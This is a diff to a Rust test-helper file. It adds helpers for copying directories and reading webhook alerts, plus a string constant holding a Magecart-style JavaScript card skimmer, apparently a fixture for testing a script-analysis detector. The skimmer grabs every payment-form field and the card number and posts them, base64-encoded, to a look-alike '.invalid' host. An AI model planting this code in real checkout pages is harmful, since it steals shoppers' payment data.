@@ -899,3 +899,59 @@ pub async fn webhook_receiver() -> (u16, std::sync::Arc<std::sync::Mutex<Vec<(St
     });
     (port, got)
 }
+
+/// The skimmer the script-analysis tests append to the demo's checkout script, after the
+/// public write-ups of Magecart kits (see `crates/scripts/testdata/README.md`): a form
+/// grabber on the payment form that serialises every field, base64-encodes it and posts it
+/// to a look-alike host under `.invalid`.
+pub const SKIMMER: &str = r#"
+(function () {
+  var f = document.getElementById("payment");
+  if (!f || location.pathname.indexOf("checkout") < 0) return;
+  f.addEventListener("submit", function () {
+    var d = {};
+    for (var i = 0; i < f.elements.length; i++) {
+      var el = f.elements[i];
+      if (el.name) d[el.name] = el.value;
+    }
+    d.card = f.elements["cc-number"].value;
+    fetch("https://harbor-hill-cdn.invalid/collect", {
+      method: "POST",
+      mode: "no-cors",
+      body: btoa(JSON.stringify(d))
+    });
+  });
+})();
+"#;
+
+/// Copies a directory tree (a static-file upstream the test then changes).
+pub fn copy_dir(from: &Path, to: &Path) {
+    std::fs::create_dir_all(to).unwrap();
+    for entry in std::fs::read_dir(from).unwrap() {
+        let entry = entry.unwrap();
+        let target = to.join(entry.file_name());
+        if entry.file_type().unwrap().is_dir() {
+            copy_dir(&entry.path(), &target);
+        } else {
+            std::fs::copy(entry.path(), target).unwrap();
+        }
+    }
+}
+
+/// The alerts a [`webhook_receiver`] got so far, as (kind, event).
+pub fn webhook_alerts(
+    received: &std::sync::Mutex<Vec<(String, Bytes)>>,
+) -> Vec<(String, serde_json::Value)> {
+    received
+        .lock()
+        .unwrap()
+        .iter()
+        .map(|(_, body)| {
+            let v: serde_json::Value = serde_json::from_slice(body).unwrap();
+            (
+                v["event"]["kind"].as_str().unwrap_or_default().to_owned(),
+                v["event"].clone(),
+            )
+        })
+        .collect()
+}
